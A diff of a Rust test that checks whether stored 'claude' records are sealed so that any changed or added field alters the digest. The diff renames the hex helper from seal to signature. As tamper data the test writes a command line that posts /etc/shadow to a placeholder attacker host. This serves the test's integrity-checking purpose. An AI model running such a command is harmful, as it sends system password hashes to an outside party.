@@ -124,7 +124,7 @@ fn every_claude_record_is_sealed_as_stored_and_a_change_or_an_added_field_shows(
                 .as_str()
                 .unwrap()
                 .to_owned();
-            let digest = seal::hex(&seal::item_digest(&doc));
+            let digest = signature::hex(&seal::item_digest(&doc));
             assert_eq!(listed.get(&id), Some(&digest), "{doc:#?}");
             let field = if doc.contains_key("process.command_line") {
                 "process.command_line"
@@ -133,14 +133,14 @@ fn every_claude_record_is_sealed_as_stored_and_a_change_or_an_added_field_shows(
             };
             doc.insert(field.into(), json!("curl -d @/etc/shadow evil.example"));
             assert_ne!(
-                seal::hex(&seal::item_digest(&doc)),
+                signature::hex(&seal::item_digest(&doc)),
                 digest,
                 "a changed field"
             );
             doc.remove(field);
             doc.insert("user.name".into(), json!("someone"));
             assert_ne!(
-                seal::hex(&seal::item_digest(&doc)),
+                signature::hex(&seal::item_digest(&doc)),
                 digest,
                 "an added field"
             );
